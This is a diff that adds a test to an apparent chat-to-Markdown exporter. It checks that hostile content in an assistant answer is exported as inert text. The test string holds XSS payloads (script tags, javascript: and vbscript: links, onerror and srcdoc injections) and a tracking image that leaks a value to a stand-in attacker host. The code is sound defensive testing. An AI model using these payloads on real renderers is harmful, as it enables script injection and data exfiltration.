@@ -38,3 +38,28 @@ def test_a_question_with_backticks_cannot_break_out_of_its_fence():
 
 def test_filename_is_safe_and_dated():
     assert export_filename(NOW) == "chat-20260305-114453.md"
+
+
+HOSTILE = """Hi <script>alert(1)</script> [x](javascript:alert(1)) [y]( JaVaScRiPt:alert(2))
+<img src=x onerror=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>
+[d](data:text/html,hi) [v](vbscript:msgbox) ![track](https://evil.example/leak?q=secret)
+[ref]: javascript:alert(3)
+[ok](https://ok.example) [rel](./docs)
+
+```html
+<script>shown as code</script>
+```
+"""
+
+
+def test_hostile_answers_export_as_inert_text():
+    text = conversation_to_markdown([{"role": "user", "content": "q"},
+                                     {"role": "assistant", "content": HOSTILE, "status": "done"}], NOW)
+    outside_code = text.split("```html")[0]
+    assert "<script" not in outside_code and "<img" not in outside_code and "<iframe" not in outside_code
+    for scheme in ("javascript:", "JaVaScRiPt:", "vbscript:", "data:"):
+        assert f"]({scheme}" not in text and f"]( {scheme}" not in text
+    assert "[ref]: #blocked-link" in text
+    assert "![track]" not in text and "[🖼 track](https://evil.example/leak?q=secret)" in text
+    assert "[ok](https://ok.example) [rel](./docs)" in text
+    assert "```html\n<script>shown as code</script>\n```" in text  # code is kept exactly
